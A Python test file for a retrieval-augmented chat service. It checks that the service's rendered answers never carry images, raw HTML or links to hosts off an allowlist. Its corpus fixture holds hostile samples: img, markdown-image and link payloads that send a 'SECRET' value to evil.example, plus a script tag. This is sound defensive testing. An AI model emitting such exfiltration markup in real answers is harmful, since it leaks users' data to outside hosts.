"""What chat front ends are given to render, through the real wiring: the service on
loopback, a fake OpenAI-compatible LLM on loopback that returns each payload (streamed
in chunks of 7 characters), and every surface the answer reaches: ``/v1/chat`` (JSON
and server-sent events), ``/v1/chat/completions`` (plain and streamed) and the stored
conversation. None may hold an image, raw HTML or a link to a host outside the
allowlist, for markdown-it-py with either linkifier (tests/rag/test_sanitize.py)."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from httpx_sse import connect_sse

from rag.config import Settings
from rag.index.build import build
from tests.api.conftest import LiveServer, serve
from tests.conftest import make_settings, write_corpus
from tests.fake_llm import FakeLLM, Reply
from tests.rag.query.test_sanitize import PAYLOADS, SHOWN_AS_TEXT, disallowed

QUESTION = "Which chip did DeepSeek use, the H800?"
PUBLIC = "https://rag.example.org"
HOSTS = {"docs.example.org", "rag.example.org"}

CORPUS = {
    "tea.md": "# Tea\n\nHangzhou is famous for its green tea. The harbour has boats.\n",
    # corpus Markdown, HTML and URLs, under a file name that is itself Markdown and a
    # domain: quoted verbatim by extractive answers and the Sources list
    "![x](https:evil.example) <b onclick=x>www.evil.example.md": (
        "The H800 chip <img src=//evil.example/p.png?d=SECRET> was used by DeepSeek "
        "![i](//evil.example/q.png?d=SECRET) [click](https://evil.example/?d=SECRET) "
        "www.evil.example/x?d=SECRET <script>alert(1)</script>.\n"
    ),
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    root = tmp_path_factory.mktemp("filter")
    settings = make_settings(root, write_corpus(root, CORPUS))
    build(settings)
    return settings.model_copy(update={"abstain_threshold": -1.0, "public_url": PUBLIC})


@pytest.fixture(scope="module")
def llm() -> Iterator[FakeLLM]:
    fake = FakeLLM().start()
    yield fake
    fake.stop()


@pytest.fixture(scope="module")
def llm_live(corpus: Settings, llm: FakeLLM) -> Iterator[LiveServer]:
    server = serve(
        corpus.model_copy(
            update={
                "llm_base_url": llm.base_url,
                "llm_model": "fake",
                "llm_timeout": 5.0,
                "llm_link_hosts": ["docs.example.org"],
            }
        )
    )
    yield server
    server.stop()


def surfaces(server: LiveServer) -> dict[str, str]:
    """The answer text on every surface, for one question each."""
    out: dict[str, str] = {}
    with server.client() as client:
        answer = client.post("/v1/chat", json={"message": QUESTION}).json()
        out["/v1/chat"] = answer["answer"]
        stored = client.get(f"/v1/conversations/{answer['conversation_id']}").json()
        out["stored conversation"] = "\n\n".join(t["answer"]["answer"] for t in stored["turns"])
        with connect_sse(
            client, "POST", "/v1/chat", json={"message": QUESTION, "stream": True}
        ) as source:
            events = [(e.event, json.loads(e.data)) for e in source.iter_sse()]
        out["/v1/chat SSE deltas"] = "".join(d["text"] for n, d in events if n == "delta")
        out["/v1/chat SSE done"] = events[-1][1]["answer"]
        body = {"model": "rag-citations", "messages": [{"role": "user", "content": QUESTION}]}
        completion = client.post("/v1/chat/completions", json=body).json()
        out["/v1/chat/completions"] = completion["choices"][0]["message"]["content"]
        with client.stream("POST", "/v1/chat/completions", json={**body, "stream": True}) as r:
            chunks = [
                json.loads(line[6:])
                for line in r.iter_lines()
                if line.startswith("data: {")  # not [DONE]
            ]
        out["/v1/chat/completions stream"] = "".join(
            c["choices"][0]["delta"].get("content") or "" for c in chunks
        )
        assert out["/v1/chat/completions stream"] == out["/v1/chat/completions"]
    return out


@pytest.mark.parametrize("name", PAYLOADS)
def test_payload_reaches_no_surface_as_image_html_or_foreign_link(
    name: str, llm_live: LiveServer, llm: FakeLLM
) -> None:
    llm.script = lambda request: Reply(PAYLOADS[name])
    for surface, text in surfaces(llm_live).items():
        assert disallowed(text, HOSTS) == [], surface
        assert "[1]" in text, surface  # the LLM's answer, not a fallback
        answer = text.split("\n\nSources:\n")[0]  # the Sources list quotes the corpus
        if name not in SHOWN_AS_TEXT:
            assert "SECRET" not in answer, surface


def test_corpus_markdown_and_file_names_render_as_text(corpus: Settings) -> None:
    """Extractive answers and the Sources list quote the hostile file verbatim; the
    OpenAI-compatible content shows it as text; the Answer JSON keeps the exact quote
    (the contract), with the file name as its source."""
    server = serve(corpus)
    try:
        texts = surfaces(server)
        with server.client() as client:
            answer = client.post("/v1/chat", json={"message": QUESTION}).json()
    finally:
        server.stop()
    hostile = next(c for c in answer["citations"] if c["source"] != "tea.md")
    text = Path(corpus.corpus_dir / hostile["source"]).read_text(encoding="utf-8")
    assert text[hostile["start_char"] : hostile["end_char"]] == hostile["quote"]
    assert "<script>" in hostile["quote"] or "<img" in hostile["quote"]
    for surface in ("/v1/chat/completions", "/v1/chat/completions stream"):
        content = texts[surface]
        assert "\n\nSources:\n" in content
        assert disallowed(content, {"rag.example.org"}) == [], surface
        links = [line.rsplit(" <", 1)[1] for line in content.split("\n") if line.startswith("[")]
        assert links and all(u.startswith(PUBLIC + "/v1/sources/") for u in links)


def test_answer_past_the_limit_is_cut_and_the_upstream_stream_closed(
    corpus: Settings,
) -> None:
    fake = FakeLLM().start()
    fake.script = lambda request: Reply("The H800 chip [1]. " + "word " * 20_000, pace=0.001)
    server = serve(
        corpus.model_copy(
            update={
                "llm_base_url": fake.base_url,
                "llm_model": "fake",
                "llm_timeout": 30.0,
                "llm_max_answer_chars": 300,
            }
        )
    )
    try:
        answer = httpx.post(server.url + "/v1/chat", json={"message": QUESTION}, timeout=60)
        deadline = time.monotonic() + 5
        while not fake.streams and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        server.stop()
        fake.stop()
    body: dict[str, Any] = answer.json()
    assert body["mode"] == "llm" and "llm_answer_truncated" in body["warnings"]
    assert len(body["answer"]) <= 300
    # the 100,000-character reply (at least 14 s at its pace) was left, not read to the end
    assert fake.streams == ["abandoned"]
